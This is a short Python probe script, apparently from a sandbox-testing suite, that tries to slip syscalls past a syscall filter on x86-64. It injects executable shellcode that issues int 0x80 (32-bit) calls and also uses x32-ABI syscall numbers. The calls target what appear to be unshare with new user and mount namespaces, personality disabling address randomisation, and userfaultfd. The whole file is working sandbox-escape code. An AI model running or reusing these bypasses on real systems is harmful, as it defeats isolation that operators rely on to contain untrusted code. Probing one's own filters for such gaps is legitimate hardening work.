# tries: the filter's blind sides: 32-bit calls and x32 numbers on x86-64
# outcomes: passed
import ctypes, mmap, platform
import attack
def thirty_two(number, argument):
    block = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    block.write(bytes.fromhex("5389f889f3cd805bc3"))
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_uint, ctypes.c_uint)(ctypes.addressof(ctypes.c_char.from_buffer(block)))
    result = call(number, argument)
    print("GOT" if result >= 0 else "no", "32-bit", number, result)
def x32(number, argument):
    result = attack.LIBC.syscall(ctypes.c_long(0x40000000 | number), ctypes.c_long(argument))
    print("GOT" if result >= 0 else "no", "x32", number, result)
if platform.machine() == "x86_64":
    for number, argument in ((310, 0x10000000), (310, 0x20000), (136, 0x0040000), (374, 0)):
        attack.apart(lambda: thirty_two(number, argument))
    for number, argument in ((272, 0x10000000), (272, 0x20000), (323, 0)):
        attack.apart(lambda: x32(number, argument))
attack.tried()
